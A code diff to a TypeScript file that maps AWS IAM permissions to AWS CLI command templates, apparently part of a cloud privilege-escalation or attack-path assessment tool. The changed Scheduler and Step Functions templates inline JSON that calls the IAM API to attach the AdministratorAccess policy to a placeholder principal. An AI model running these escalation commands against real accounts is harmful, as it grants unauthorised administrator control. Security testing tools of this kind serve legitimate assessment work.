@@ -15,11 +15,11 @@ export const functionCommands: Readonly<Record<string, string>> = {
     'aws dynamodb create-table --table-name {made} --attribute-definitions AttributeName=id,AttributeType=S --key-schema AttributeName=id,KeyType=HASH --billing-mode PAY_PER_REQUEST --stream-specification StreamEnabled=true,StreamViewType=NEW_IMAGE',
   'dynamodb:PutItem': 'aws dynamodb put-item --table-name {made} --item id={S=go}',
   'scheduler:CreateSchedule':
-    'aws scheduler create-schedule --name {made} --schedule-expression "rate(1 minutes)" --flexible-time-window Mode=OFF --target file://attach-administrator-access.json',
+    'aws scheduler create-schedule --name {made} --schedule-expression "rate(1 minute)" --flexible-time-window Mode=OFF --target \'{"Arn":"arn:aws:scheduler:::aws-sdk:iam:{attach}","RoleArn":"{roleArn}","Input":"{\\"{nameOfMe}\\":\\"{me}\\",\\"PolicyArn\\":\\"arn:aws:iam::aws:policy/AdministratorAccess\\"}"}\'',
   'states:CreateStateMachine':
-    'aws stepfunctions create-state-machine --name {made} --role-arn {roleArn} --definition file://attach-administrator-access.json',
+    'aws stepfunctions create-state-machine --name {made} --role-arn {roleArn} --definition \'{"StartAt":"Attach","States":{"Attach":{"Type":"Task","Resource":"arn:aws:states:::aws-sdk:iam:{attach}","Parameters":{"{nameOfMe}":"{me}","PolicyArn":"arn:aws:iam::aws:policy/AdministratorAccess"},"End":true}}}\'',
   'states:UpdateStateMachine':
-    'aws stepfunctions update-state-machine --state-machine-arn {host} --definition file://attach-administrator-access.json',
+    'aws stepfunctions update-state-machine --state-machine-arn {host} --definition \'{"StartAt":"Attach","States":{"Attach":{"Type":"Task","Resource":"arn:aws:states:::aws-sdk:iam:{attach}","Parameters":{"{nameOfMe}":"{me}","PolicyArn":"arn:aws:iam::aws:policy/AdministratorAccess"},"End":true}}}\'',
   'states:StartExecution': 'aws stepfunctions start-execution --state-machine-arn {stateMachine}',
   'ssm:CreateDocument':
     'aws ssm create-document --name {made} --document-type Automation --content file://attach-administrator-access.json',
